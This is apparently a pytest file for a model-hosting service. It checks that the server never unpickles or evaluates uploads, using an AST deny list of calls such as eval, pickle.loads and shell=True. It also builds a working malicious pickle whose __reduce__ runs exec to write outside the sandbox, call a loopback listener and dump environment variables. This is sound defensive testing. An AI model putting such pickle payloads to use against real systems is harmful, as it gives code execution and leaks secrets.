"""Model loading and injection safety (issue 9, item 5): the server never deserialises or
evaluates what users upload, and a malicious pickle loaded by a user's own evaluation code
runs only inside the task's sandbox."""

from __future__ import annotations

import ast
import json
import pickle
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

import assay
from assay import hub
from assay.worker.sandbox import landlock_abi
from tests.conftest import Server

SRC = Path(assay.__file__).parent
# Modules whose code runs inside a task's sandbox, where loading a user's model is the point:
# none of them unpickles today, and the scan holds them to the same rules.
SANDBOXED: set[str] = set()

# Calls that turn bytes or text into code: never on anything a user sent. (numpy.load is
# safe unless given allow_pickle=True, which the keyword check below catches.)
FORBIDDEN_CALLS = {
    "eval",
    "exec",
    "pickle.load",
    "pickle.loads",
    "cPickle.loads",
    "marshal.loads",
    "shelve.open",
    "joblib.load",
    "dill.load",
    "dill.loads",
    "cloudpickle.loads",
    "torch.load",
    "yaml.load",
    "yaml.unsafe_load",
    "yaml.full_load",
}
FORBIDDEN_IMPORTS = {"pickle", "cPickle", "marshal", "shelve", "joblib", "dill", "cloudpickle"}


def _dotted(node: ast.expr) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


def _findings(path: Path) -> Iterator[str]:
    tree = ast.parse(path.read_text(), str(path))
    where = path.relative_to(SRC.parent)
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.module:
                names.append(node.module)
            for name in names:
                if name.split(".")[0] in FORBIDDEN_IMPORTS:
                    yield f"{where}:{node.lineno} imports {name}"
        if not isinstance(node, ast.Call):
            continue
        name = _dotted(node.func)
        safe_yaml = name == "yaml.load" and any(
            "Safe" in _dotted(k.value) for k in node.keywords if k.arg == "Loader"
        )
        if name in FORBIDDEN_CALLS and not safe_yaml:
            yield f"{where}:{node.lineno} calls {name}"
        for k in node.keywords:
            if k.arg == "shell" and not (isinstance(k.value, ast.Constant) and not k.value.value):
                yield f"{where}:{node.lineno} runs a shell (shell={ast.unparse(k.value)})"
            if k.arg == "allow_pickle" and not (
                isinstance(k.value, ast.Constant) and not k.value.value
            ):
                yield f"{where}:{node.lineno} allows pickles"


def test_no_server_module_deserialises_or_evaluates_input() -> None:
    modules = [p for p in SRC.rglob("*.py") if str(p.relative_to(SRC)) not in SANDBOXED]
    assert len(modules) > 50  # the scan sees the whole package
    findings = [f for path in modules for f in _findings(path)]
    assert findings == []


def test_the_scan_finds_what_it_looks_for(tmp_path: Path) -> None:
    bad = SRC.parent / "assay" / "_scan_probe_do_not_commit.py"
    bad.write_text(
        "import pickle, subprocess, yaml\n"
        "pickle.loads(b'')\nsubprocess.run('ls', shell=True)\neval('1')\n"
        "yaml.load('', Loader=yaml.SafeLoader)\nyaml.load('')\n"
    )
    try:
        found = list(_findings(bad))
    finally:
        bad.unlink()
    assert [f.split(" ", 1)[1] for f in found] == [
        "imports pickle",
        "calls pickle.loads",
        "runs a shell (shell=True)",
        "calls eval",
        "calls yaml.load",
    ]


class _Listener:
    """A loopback port the payload reports to, so execution is observed, not inferred."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.port = self.sock.getsockname()[1]
        self.messages: list[str] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                self.messages.append(conn.recv(1024).decode())


def _payload(outside: Path, port: int) -> bytes:
    code = f"""
import json, os, socket
for path in ({str(outside)!r}, "inside-canary.txt"):
    try:
        with open(path, "w") as f:
            f.write("pwned")
        print("PICKLE wrote", path, flush=True)
    except OSError as exc:
        print("PICKLE refused", path, type(exc).__name__, flush=True)
with socket.create_connection(("127.0.0.1", {port}), timeout=10) as s:
    s.sendall(("ran in pid %d" % os.getpid()).encode())
print("PICKLE env " + json.dumps(dict(os.environ)), flush=True)
"""

    class Exploit:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (exec, (code,))

    return pickle.dumps(Exploit())


LOADER = """
import argparse, json, os, pickle
p = argparse.ArgumentParser(); p.add_argument("--model_url"); p.add_argument("--data_url")
a, _ = p.parse_known_args()
with open(os.path.join(a.model_url, "model.pkl"), "rb") as f:
    pickle.load(f)
with open(os.path.join(os.environ["ASSAY_OUTPUT_DIR"], "metrics.json"), "w") as f:
    json.dump({"loaded": 1}, f)
"""


@pytest.mark.skipif(landlock_abi() < 1, reason="the sandbox needs Landlock")
def test_a_malicious_pickle_runs_only_inside_the_sandbox(server: Server, tmp_path: Path) -> None:
    listener = _Listener()
    outside = tmp_path / "canary-outside.txt"
    src = tmp_path / "src"
    src.mkdir()
    (src / "model.pkl").write_bytes(_payload(outside, listener.port))
    (src / "loader.py").write_text(LOADER)
    (src / "d.txt").write_text("d")
    hub.login(host=server.url, api_key=server.admin_key)
    model = hub.create_folder(type_="model", name="p").create_asset(name="evil")
    model.create_commit(message="a pickle", add=[str(src / "model.pkl")])
    hub.create_folder(type_="dataset", name="p").create_asset(name="d").create_commit(
        message="d", add=[str(src / "d.txt")]
    )
    hub.create_folder(type_="code", name="p").create_asset(name="load").create_commit(
        message="loader", add=[str(src / "loader.py")]
    )
    # Everything the server does with a stored model: list, describe, resolve, download.
    model.list_files()
    model.list_commits()
    with server.client(server.admin_key) as c:
        assert c.get("/assets/lookup", params={"ref": "model/p/evil"}).status_code == 200
        assert c.get(f"/assets/{model.id}/files/model.pkl").status_code == 200
    model.download(tmp_path / "dl")
    assert listener.messages == [] and not outside.exists()  # the server never ran it

    job = hub.create_job(
        name="unpickle", model="p/evil", dataset="p/d", code="p/load", launch="loader.py"
    )
    v = job.get_version("V0001").wait(timeout=180)
    logs = v.logs()
    assert v.status == "Completed", (v.data["message"], logs)
    # It ran (the sandbox is not a pickle filter), but only where a script may act.
    assert len(listener.messages) == 1 and listener.messages[0].startswith("ran in pid")
    pid = int(listener.messages[0].rsplit(" ", 1)[1])
    assert pid != server.process.pid
    assert f"PICKLE refused {outside} PermissionError" in logs
    assert "PICKLE wrote inside-canary.txt" in logs
    assert not outside.exists()
    env = json.loads(next(x[11:] for x in logs.splitlines() if x.startswith("PICKLE env ")))
    assert server.admin_key not in json.dumps(env)
    assert not [k for k in env if k.startswith(("AWS_", "ASSAY_DATABASE", "ASSAY_HOME"))]
    assert "ASSAY_ENDPOINTS" not in env  # this job has no endpoint: no key to hand over
